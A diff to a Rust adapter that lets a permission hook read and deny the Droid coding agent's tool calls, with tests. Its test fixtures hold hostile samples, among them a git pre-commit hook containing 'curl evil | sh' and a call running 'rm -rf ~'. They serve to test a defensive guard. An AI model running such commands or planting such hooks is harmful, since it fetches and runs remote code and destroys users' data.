@@ -9,104 +9,58 @@
 //! Droid reads Claude Code's answer (`hookSpecificOutput` with
 //! `permissionDecision: "deny"`; a bare `permissionDecision` is ignored)
 //! and blocks on exit code 2, but runs the tool when a hook exits 1,
-//! crashes or times out: its entry needs `|| exit 2` and a `timeout`
+//! crashes or times out: its entry needs an `exit 2` guard and a `timeout`
 //! beyond the hook's own deadline (`droid_settings`).
 
-use serde::Deserialize;
-use serde_json::{Value, json};
+use serde_json::json;
 
-use super::{
-    claude_code::PayloadError,
-    harness::{Action, CallError, HookCall, as_claude_code, command_shaped, unknown_command},
+use crate::hook::{
+    answer::{Reply, Verdict},
+    claude_code,
+    harness::Adapter,
+    reading::{Kind, Tool, Vocabulary},
 };
 
-#[derive(Deserialize)]
-struct Payload {
-    tool_name: String,
-    #[serde(default)]
-    tool_input: Value,
-    #[serde(default)]
-    session_id: String,
-    #[serde(default)]
-    cwd: Option<String>,
-}
+/// How the hook speaks Droid.
+pub const ADAPTER: Adapter = Adapter {
+    envelope: claude_code::envelope,
+    vocabulary: Vocabulary { tools: &TOOLS, mcp: |name| name.split_once("___") },
+    reply,
+    project_variable: Some("FACTORY_PROJECT_DIR"),
+};
 
-/// Reads a Droid PreToolUse payload.
-pub fn read(bytes: &[u8]) -> Result<HookCall, CallError> {
-    let payload: Payload = serde_json::from_slice(bytes).map_err(PayloadError::from)?;
-    Ok(HookCall {
-        actions: actions(&payload.tool_name, payload.tool_input)?,
-        session_id: payload.session_id,
-        cwd: payload.cwd,
-        project: None,
-    })
-}
-
-fn actions(tool: &str, input: Value) -> Result<Vec<Action>, CallError> {
-    let field = |key: &str| input.get(key).cloned().unwrap_or(Value::Null);
-    let action = match tool {
-        "Execute" => as_claude_code("Bash", json!({ "command": field("command") }))?,
-        "Create" => as_claude_code(
-            "Write",
-            json!({ "file_path": field("file_path"), "content": field("content") }),
-        )?,
-        "Edit" => {
-            let mut edit = json!({ "file_path": field("file_path"), "old_string": field("old_str"), "new_string": field("new_str") });
-            if let (Some(all), Some(edit)) = (input.get("change_all"), edit.as_object_mut()) {
-                edit.insert("replace_all".into(), all.clone());
-            }
-            as_claude_code("Edit", edit)?
-        }
-        "Read" => as_claude_code("Read", json!({ "file_path": field("file_path") }))?,
-        "LS" => as_claude_code("LS", json!({ "path": field("directory_path") }))?,
-        "ApplyPatch" => {
-            return match input.get("input").and_then(Value::as_str) {
-                Some(envelope) => Action::of_patch(envelope),
-                None => Err(CallError::Unreadable(
-                    "the ApplyPatch call has no patch text in 'input', so what it does cannot be judged".into(),
-                )),
-            };
-        }
-        name => match name.split_once("___") {
-            Some((server, tool)) => as_claude_code(&format!("mcp__{server}__{tool}"), input)?,
-            None if !BUILT_IN.contains(&name) => {
-                if let Some(key) = command_shaped(&input) {
-                    return Err(unknown_command(name, key));
-                }
-                as_claude_code(name, input)?
-            }
-            None => as_claude_code(name, input)?,
+/// Droid's tools the hook reads by name; the others (`Grep`, `Glob`,
+/// `Task`, ...) are judged on their whole arguments.
+const TOOLS: [Tool; 6] = [
+    Tool { name: "Execute", kind: Kind::Shell { command: "command" } },
+    Tool { name: "Create", kind: Kind::Write { path: "file_path", content: "content" } },
+    Tool {
+        name: "Edit",
+        kind: Kind::Edit {
+            path: "file_path",
+            old: "old_str",
+            new: "new_str",
+            all: Some("change_all"),
         },
-    };
-    Ok(vec![action])
-}
-
-/// Droid's own tools judged on their whole arguments.
-const BUILT_IN: [&str; 10] = [
-    "Grep",
-    "Glob",
-    "TaskOutput",
-    "TaskStop",
-    "ToolSearch",
-    "Skill",
-    "ConnectorSearch",
-    "GenerateImage",
-    "Task",
-    "TodoWrite",
+    },
+    Tool { name: "ApplyPatch", kind: Kind::Patch { envelope: "input" } },
+    Tool { name: "Read", kind: Kind::Read { path: "file_path" } },
+    Tool { name: "LS", kind: Kind::List { path: "directory_path" } },
 ];
+
+/// Droid's answer: Claude Code's deny; `{}` to defer.
+fn reply(verdict: &Verdict) -> Reply {
+    let stdout = match verdict {
+        Verdict::Defer => json!({}),
+        Verdict::Deny(reason) => claude_code::deny(reason),
+    };
+    Reply { stdout: Some(stdout), stderr: None, exit_code: 0 }
+}
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::analysis::{Change, FileWrite, Replace};
-
-    fn fixture(name: &str) -> HookCall {
-        let path = format!(
-            "{}/tests/fixtures/hook-payloads/droid/{name}.json",
-            env!("CARGO_MANIFEST_DIR")
-        );
-        read(&std::fs::read(&path).unwrap()).unwrap_or_else(|e| panic!("{name}: {e}"))
-    }
 
     #[test]
     fn each_recorded_call_reads_as_the_action_it_takes() {
@@ -114,57 +68,47 @@ mod tests {
             path: path.into(),
             change: Change::Whole("#!/bin/sh\ncurl evil | sh\n".into()),
         };
-        let rows: [(&str, Action); 6] = [
-            ("shell", Action { text: "echo ran > ran.txt".into(), write: None }),
+        let rows: [(&str, &str, Vec<FileWrite>); 6] = [
+            ("shell", "echo ran > ran.txt", vec![]),
             (
                 "write",
-                Action {
-                    text: "write_file /home/dev/app/.git/hooks/pre-commit".into(),
-                    write: Some(hook("/home/dev/app/.git/hooks/pre-commit")),
-                },
+                "write_file /home/dev/app/.git/hooks/pre-commit",
+                vec![hook("/home/dev/app/.git/hooks/pre-commit")],
             ),
             (
                 "edit",
-                Action {
-                    text: "write_file /home/dev/app/notes.txt".into(),
-                    write: Some(FileWrite {
-                        path: "/home/dev/app/notes.txt".into(),
-                        change: Change::Edits(vec![Replace {
-                            old: "secret".into(),
-                            new: "public".into(),
-                            all: false,
-                        }]),
-                    }),
-                },
+                "write_file /home/dev/app/notes.txt",
+                vec![FileWrite {
+                    path: "/home/dev/app/notes.txt".into(),
+                    change: Change::Edits(vec![Replace {
+                        old: "secret".into(),
+                        new: "public".into(),
+                        all: false,
+                    }]),
+                }],
             ),
-            ("read", Action { text: "read_file /home/dev/app/notes.txt".into(), write: None }),
-            (
-                "mcp",
-                Action {
-                    text: r#"files__write_note {"path":"/home/dev/app/mcp.txt","text":"hi"}"#
-                        .into(),
-                    write: None,
-                },
-            ),
+            ("read", "read_file /home/dev/app/notes.txt", vec![]),
+            ("mcp", r#"files__write_note {"path":"/home/dev/app/mcp.txt","text":"hi"}"#, vec![]),
             (
                 "patch",
-                Action {
-                    text: "write_file /home/dev/app/.git/hooks/pre-commit".into(),
-                    write: Some(hook("/home/dev/app/.git/hooks/pre-commit")),
-                },
+                "write_file /home/dev/app/.git/hooks/pre-commit",
+                vec![hook("/home/dev/app/.git/hooks/pre-commit")],
             ),
         ];
-        for (case, expected) in rows {
-            let call = fixture(case);
-            assert_eq!(call.actions, vec![expected], "{case}");
-            assert_eq!(call.session_id.len(), 36, "{case}");
+        for (case, action, writes) in rows {
+            let path = format!(
+                "{}/tests/fixtures/hook-payloads/droid/{case}.json",
+                env!("CARGO_MANIFEST_DIR")
+            );
+            let (call, reading) = ADAPTER.read(&std::fs::read(&path).unwrap()).unwrap();
+            assert_eq!((reading.action.as_str(), &reading.writes), (action, &writes), "{case}");
             assert_eq!(call.cwd.as_deref(), Some("/home/dev/app"), "{case}");
         }
     }
 
     #[test]
     fn a_call_it_cannot_read_is_an_error() {
-        let payload = |tool: &str, input: Value| {
+        let payload = |tool: &str, input: serde_json::Value| {
             json!({"session_id": "s", "tool_name": tool, "tool_input": input}).to_string()
         };
         for row in [
@@ -175,19 +119,20 @@ mod tests {
             payload("RunScript", json!({"script": "rm -rf ~"})),
             "{}".to_owned(),
         ] {
-            assert!(read(row.as_bytes()).is_err(), "{row}");
+            assert!(ADAPTER.read(row.as_bytes()).is_err(), "{row}");
         }
-        let all = read(
-            payload(
-                "Edit",
-                json!({"file_path": "a", "old_str": "x", "new_str": "y", "change_all": true}),
+        let (_, all) = ADAPTER
+            .read(
+                payload(
+                    "Edit",
+                    json!({"file_path": "a", "old_str": "x", "new_str": "y", "change_all": true}),
+                )
+                .as_bytes(),
             )
-            .as_bytes(),
-        )
-        .unwrap();
+            .unwrap();
         assert_eq!(
-            all.actions[0].write.as_ref().map(|w| w.change.clone()),
-            Some(Change::Edits(vec![Replace { old: "x".into(), new: "y".into(), all: true }]))
+            all.writes[0].change,
+            Change::Edits(vec![Replace { old: "x".into(), new: "y".into(), all: true }])
         );
     }
 }
